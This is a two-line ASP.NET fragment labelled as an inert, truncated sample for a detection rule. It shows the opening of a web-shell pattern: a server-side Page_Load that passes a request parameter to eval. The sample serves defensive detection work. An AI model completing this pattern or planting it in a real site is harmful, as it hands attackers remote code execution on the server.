<%-- INERT SAMPLE for a detection rule: cut off in the middle, does not compile. --%>
<script runat="server">function Page_Load(){ eval ( Request.Item